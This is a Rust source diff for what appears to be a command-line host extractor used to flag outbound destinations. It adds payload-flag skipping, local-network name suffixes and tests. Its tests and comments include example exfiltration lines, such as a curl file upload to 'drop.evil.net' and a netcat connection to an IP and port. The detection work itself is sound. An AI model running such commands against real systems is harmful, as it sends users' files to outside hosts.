@@ -106,13 +106,65 @@ pub(crate) fn forward_slashes(value: &str) -> Cow<'_, str> {
 }
 
 static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)\b[a-z][a-z0-9+.\-]*://(?:[^/\s@'"]*@)?(\[[0-9a-f:.]+\]|[^/\s:'"?#]+)"#)
+    Regex::new(r#"(?i)\b([a-z][a-z0-9+.\-]*)://(?:[^/\s@'"]*@)?(\[[0-9a-f:.]+\]|[^/\s:'"?#]+)"#)
         .expect("static regex")
 });
+// `host:path` (a path follows the colon: `README.md: fix typo` is no destination).
 static SCP_HOST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?:^|[\s'"])(?:[^\s@'"/:]+@)?([A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}):"#)
+    Regex::new(r#"(?:^|[\s'"])(?:[^\s@'"/:]+@)?([A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}):[^\s'"]"#)
         .expect("static regex")
 });
+
+/// Flags whose quoted value is a payload or a message, not a destination:
+/// hosts named inside it (`-d '{"url": "https://..."}'`, `-m 'see https://...'`,
+/// `-H 'Origin: https://...'`) are not where the command sends anything.
+const PAYLOAD_FLAGS: &[&str] = &[
+    "-d",
+    "--data",
+    "--data-raw",
+    "--data-binary",
+    "--data-urlencode",
+    "--json",
+    "-H",
+    "--header",
+    "-m",
+    "--message",
+    "-A",
+    "--user-agent",
+    "-e",
+    "--referer",
+    "-b",
+    "--cookie",
+    "echo",
+    "printf",
+];
+
+/// Byte ranges of quoted payloads ([`PAYLOAD_FLAGS`]) in a command line.
+fn payload_spans(text: &str) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    if !text.contains(['\'', '"']) {
+        return spans;
+    }
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        let q = bytes[i];
+        if q != b'\'' && q != b'"' {
+            i += 1;
+            continue;
+        }
+        let end = text[i + 1..]
+            .find(q as char)
+            .map_or(text.len(), |e| i + 1 + e + 1);
+        let before = text[..i].trim_end();
+        let flag = before.rsplit(char::is_whitespace).next().unwrap_or("");
+        if before.len() < text[..i].len() && PAYLOAD_FLAGS.contains(&flag) {
+            spans.push((i, end));
+        }
+        i = end;
+    }
+    spans
+}
 
 /// A host on the machine or the organization's own network: `localhost`
 /// (and `*.localhost`), `host.docker.internal`, loopback, private (RFC 1918,
@@ -122,17 +174,35 @@ static SCP_HOST: LazyLock<Regex> = LazyLock::new(|| {
 /// holds.
 pub(crate) fn is_local_host(host: &str) -> bool {
     let h = host.trim_end_matches('.');
-    if h.eq_ignore_ascii_case("localhost")
-        || h.eq_ignore_ascii_case("host.docker.internal")
-        || (h.len() > ".localhost".len()
-            && h.is_char_boundary(h.len() - ".localhost".len())
-            && h[h.len() - ".localhost".len()..].eq_ignore_ascii_case(".localhost"))
-    {
+    if h.eq_ignore_ascii_case("localhost") {
+        return true;
+    }
+    // Names that never resolve on the internet: RFC 6761/6762/8375 and the usual LAN ones.
+    const LOCAL_SUFFIXES: &[&str] = &[
+        ".localhost",
+        ".test",
+        ".local",
+        ".internal",
+        ".lan",
+        ".home.arpa",
+        ".localdomain",
+    ];
+    if LOCAL_SUFFIXES.iter().any(|s| {
+        h.len() > s.len() && h.is_char_boundary(h.len() - s.len()) && {
+            h[h.len() - s.len()..].eq_ignore_ascii_case(s)
+        }
+    }) {
         return true;
     }
     match h.trim_start_matches('[').trim_end_matches(']').parse() {
         Ok(IpAddr::V4(ip)) => {
-            ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()
+            let [a, b, ..] = ip.octets();
+            ip.is_loopback()
+                || ip.is_private()
+                || ip.is_link_local()
+                || ip.is_unspecified()
+                // Shared address space (RFC 6598): carrier NAT, Tailscale.
+                || (a == 100 && (b & 0xc0) == 64)
         }
         Ok(IpAddr::V6(ip)) => {
             let first = ip.segments()[0];
@@ -150,9 +220,12 @@ pub(crate) fn is_local_host(host: &str) -> bool {
 
 /// True when `pred` holds for a host the value names: the value itself when
 /// it is a bare host (`mcp.slack.com`, `host:443`), else every URL host,
-/// every scp/rsync style `user@host:` destination, and every host written
-/// without a scheme but with a path or a port (`paste.example.net/api`,
-/// `203.0.113.5 4444`) in it (a command line). Allocates nothing.
+/// every scp/rsync style `user@host:path` destination, and every host
+/// written without a scheme but with a path or a port
+/// (`paste.example.net/api`, `203.0.113.5 4444`) in it (a command line).
+/// In a command line, hosts inside a quoted payload or message
+/// ([`PAYLOAD_FLAGS`]) and single-label web hosts (`http://api:8000`, a
+/// container or LAN name) are not destinations and are skipped.
 pub(crate) fn any_host<'a>(text: &'a str, mut pred: impl FnMut(&'a str) -> bool) -> bool {
     let t = text.trim();
     if !t.is_empty() && !t.contains(|c: char| c.is_whitespace() || c == '/' || c == '@') {
@@ -162,26 +235,37 @@ pub(crate) fn any_host<'a>(text: &'a str, mut pred: impl FnMut(&'a str) -> bool)
         };
         return pred(host);
     }
+    let spans = payload_spans(t);
+    let in_payload = |at: usize| spans.iter().any(|&(s, e)| s <= at && at < e);
     // Cheap literal checks first: most command lines name no host at all.
     if t.contains("://") {
         for c in URL_HOST.captures_iter(t) {
-            if let Some(m) = c.get(1) {
-                if pred(m.as_str().trim_start_matches('[').trim_end_matches(']')) {
-                    return true;
-                }
+            let (Some(scheme), Some(m)) = (c.get(1), c.get(2)) else {
+                continue;
+            };
+            let host = m.as_str().trim_start_matches('[').trim_end_matches(']');
+            let web = matches!(
+                scheme.as_str().to_ascii_lowercase().as_str(),
+                "http" | "https" | "ws" | "wss"
+            );
+            if in_payload(scheme.start()) || (web && !host.contains(['.', ':'])) {
+                continue;
+            }
+            if pred(host) {
+                return true;
             }
         }
     }
     if t.contains(':') {
         for c in SCP_HOST.captures_iter(t) {
             if let Some(m) = c.get(1) {
-                if pred(m.as_str()) {
+                if !in_payload(m.start()) && pred(m.as_str()) {
                     return true;
                 }
             }
         }
     }
-    bare_hosts(t, pred)
+    bare_hosts(t, |at, host| !in_payload(at) && pred(host))
 }
 
 static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
@@ -194,7 +278,7 @@ static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
 /// (`paste.example.net/api`), or an IPv4 address or
 /// domain followed by a port number as the next word (`nc 203.0.113.5 4444`).
 /// A file name alone (`report.pdf`) is not taken for a host.
-fn bare_hosts<'a>(text: &'a str, mut pred: impl FnMut(&'a str) -> bool) -> bool {
+fn bare_hosts<'a>(text: &'a str, mut pred: impl FnMut(usize, &'a str) -> bool) -> bool {
     let mut words = text
         .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '(' | ')' | ';' | '|'))
         .filter(|w| !w.is_empty())
@@ -213,7 +297,8 @@ fn bare_hosts<'a>(text: &'a str, mut pred: impl FnMut(&'a str) -> bool) -> bool 
         let port_next = words
             .peek()
             .is_some_and(|n| n.len() <= 5 && n.bytes().all(|b| b.is_ascii_digit()));
-        if (m.as_str().ends_with('/') || port_next) && pred(host) {
+        let at = word.as_ptr() as usize - text.as_ptr() as usize;
+        if (m.as_str().ends_with('/') || port_next) && pred(at, host) {
             return true;
         }
     }
@@ -316,6 +401,32 @@ mod tests {
     }
 
     #[test]
+    fn payloads_messages_and_single_label_web_hosts_are_not_destinations() {
+        assert_eq!(
+            extract_hosts(
+                r#"curl -X POST https://api.example.com/in -d '{"url": "https://docs.example.org/x"}' -H 'Origin: https://app.example.net'"#
+            ),
+            vec!["api.example.com"]
+        );
+        assert_eq!(
+            extract_hosts(
+                "git commit -m 'Fix link to https://docs.python.org/3/' && git push origin main"
+            ),
+            Vec::<&str>::new()
+        );
+        assert!(extract_hosts("git commit -m 'README.md: fix typo' && git push").is_empty());
+        assert!(extract_hosts("curl -X POST http://api:8000/jobs -d @job.json").is_empty());
+        // What is not in a payload still counts, quoted or not.
+        assert_eq!(
+            extract_hosts(
+                r#"echo "see https://a.example.org" && curl -T f 'https://drop.evil.net/in'"#
+            ),
+            vec!["drop.evil.net"]
+        );
+        assert_eq!(extract_hosts("aws s3 cp f s3://bucket/x"), vec!["bucket"]);
+    }
+
+    #[test]
     fn local_and_private_hosts_are_recognized() {
         for h in [
             "localhost",
@@ -333,6 +444,11 @@ mod tests {
             "fd12:3456::1",
             "fe80::1",
             "::ffff:10.1.2.3",
+            "myapp.test",
+            "printer.local",
+            "api.corp.internal",
+            "nas.home.arpa",
+            "100.101.102.103",
         ] {
             assert!(is_local_host(h), "{h} is local");
         }
@@ -344,6 +460,8 @@ mod tests {
             "files.anon-share.net",
             "localhost.evil.net",
             "notlocalhost",
+            "100.128.0.1",
+            "contest.io",
         ] {
             assert!(!is_local_host(h), "{h} is not local");
         }
